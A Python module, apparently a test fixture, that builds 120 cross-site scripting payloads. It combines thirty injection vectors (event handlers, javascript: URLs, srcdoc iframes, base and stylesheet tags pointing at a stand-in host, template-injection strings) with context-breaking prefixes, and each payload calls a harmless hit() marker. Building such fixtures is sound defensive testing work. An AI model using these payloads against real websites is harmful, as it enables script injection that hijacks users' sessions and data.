"""Texts of people who want to run a script in somebody else's browser."""

from __future__ import annotations

from typing import Final

_BODIES: Final = (
    "<script>hit()</script>",
    "<ScRiPt/x>hit()</sCrIpT>",
    "<img id=pwn src=x onerror=hit()>",
    "<img id=pwn src=//pwn.example/x.png>",
    "<svg id=pwn onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><use id=pwn href=#x onload=hit()></svg>",
    "<svg><a xlink:href=javascript:hit()><text id=pwn>x</text></a></svg>",
    "<math><mi id=pwn xlink:href=javascript:hit()>x</mi></math>",
    "<iframe id=pwn src=javascript:parent.hit()></iframe>",
    '<iframe id=pwn srcdoc="<script>parent.hit()</script>"></iframe>',
    "<body id=pwn onload=hit()>",
    "<input id=pwn autofocus onfocus=hit()>",
    "<details id=pwn open ontoggle=hit()>x</details>",
    "<video id=pwn><source onerror=hit()></video>",
    "<audio id=pwn src=x onerror=hit()></audio>",
    "<a id=pwn href=javascript:hit()>x</a>",
    '<a id=pwn href="data:text/html,<script>opener.hit()</script>" target=_blank>x</a>',
    "<form id=pwn action=javascript:hit()><button>x</button></form>",
    "<object id=pwn data=javascript:hit()></object>",
    "<embed id=pwn src=javascript:hit()>",
    "<link id=pwn rel=stylesheet href=//pwn.example/x.css>",
    "<style id=pwn>@import '//pwn.example/x.css';</style>",
    "<base id=pwn href=//pwn.example/>",
    '<meta id=pwn http-equiv=refresh content="0;url=javascript:hit()">',
    "<template id=pwn><img src=x onerror=hit()></template>",
    '<noscript><p title="</noscript><img id=pwn src=x onerror=hit()>">',
    "<p id=pwn onmouseover=hit() style=position:fixed;inset:0>x</p>",
    "{{ 7*7 }}{% for c in ''.__class__.__mro__ %}${hit()}<b id=pwn>",
    "&lt;script&gt;hit()&lt;/script&gt;<b id=pwn>\\u003cscript\\u003e",
)
_OUT_OF: Final = ("", '">', "'>", "</title></textarea></script></option></select>-->")
"""What ends the place where the text may stand."""
PAYLOADS: Final = tuple(f"{before}{body}" for body in _BODIES for before in _OUT_OF)
assert len(set(PAYLOADS)) == 120
